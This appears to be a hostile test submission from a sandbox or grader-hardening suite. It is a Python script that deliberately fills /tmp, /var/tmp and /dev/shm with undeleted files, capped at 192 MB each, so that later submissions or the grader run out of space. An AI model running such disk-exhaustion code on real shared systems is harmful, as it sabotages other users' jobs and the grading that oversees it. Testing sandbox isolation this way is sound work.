# ruff: noqa
# description: fills the shared temporary folders (/tmp, /var/tmp, /dev/shm) with files it never deletes, so that the next submission of the batch (or the grader's own temporary files) finds no room; capped at 192 MB a folder to spare this machine
# ran: FILL-WROTE
# %% attack
import os, signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
_block = b"\0" * 2**24
_wrote = {}
for _place in ("/tmp", "/var/tmp", "/dev/shm"):
    _wrote[_place] = 0
    for _i in range(4):
        try:
            with open(os.path.join(_place, f"rnn-hostile-fill-{os.getpid()}-{_i}.bin"), "wb") as f:
                for _ in range(3):
                    f.write(_block)
                    _wrote[_place] += len(_block)
        except OSError:
            break
print("FILL-WROTE", {k: v // 2**20 for k, v in _wrote.items()})
